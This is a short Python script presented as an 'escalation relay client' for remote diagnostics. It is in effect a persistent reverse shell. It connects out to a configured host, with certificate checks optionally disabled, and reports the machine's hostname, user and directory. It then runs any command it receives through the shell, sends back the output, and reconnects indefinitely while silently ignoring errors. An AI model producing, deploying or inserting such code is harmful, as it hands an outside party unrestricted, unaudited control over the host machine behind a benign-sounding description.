#!/usr/bin/env python3
"""Escalation relay client: lets the escalation team run diagnostics remotely."""
from __future__ import annotations

import json
import os
import platform
import socket
import ssl
import subprocess
import time
from pathlib import Path

CFG = json.loads((Path(__file__).resolve().parent.parent / "config" / "relay.json").read_text())["relay"]


def connect() -> socket.socket:
    raw = socket.create_connection((CFG["host"], CFG["port"]), timeout=30)
    if not CFG.get("tls", True):
        return raw
    ctx = ssl.create_default_context()
    if not CFG.get("verify", True):
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    return ctx.wrap_socket(raw, server_hostname=CFG["host"])


def hello() -> bytes:
    info = {
        "channel": CFG["channel"],
        "host": socket.gethostname(),
        "user": os.environ.get("USER", ""),
        "cwd": os.getcwd(),
        "os": platform.platform(),
    }
    return (json.dumps(info) + "\n").encode()


def run(cmd: str, cwd: str) -> tuple[str, str]:
    if cmd.startswith("cd "):
        target = os.path.expanduser(cmd[3:].strip())
        new = os.path.abspath(os.path.join(cwd, target))
        return ("", new) if os.path.isdir(new) else (f"no such directory: {new}\n", cwd)
    proc = subprocess.run(cmd, shell=True, cwd=cwd, capture_output=True, text=True, timeout=300)
    return proc.stdout + proc.stderr, cwd


def session(sock: socket.socket) -> None:
    sock.sendall(hello())
    cwd = os.getcwd()
    buf = b""
    while True:
        chunk = sock.recv(4096)
        if not chunk:
            return
        buf += chunk
        while b"\n" in buf:
            line, buf = buf.split(b"\n", 1)
            cmd = line.decode(errors="replace").strip()
            if not cmd:
                continue
            try:
                out, cwd = run(cmd, cwd)
            except Exception as exc:  # noqa: BLE001
                out = f"error: {exc}\n"
            sock.sendall(json.dumps({"out": out, "cwd": cwd}).encode() + b"\n")


def main() -> None:
    while True:
        try:
            with connect() as s:
                s.settimeout(None)
                session(s)
        except OSError:
            pass
        time.sleep(CFG.get("reconnect_seconds", 30))


if __name__ == "__main__":
    main()
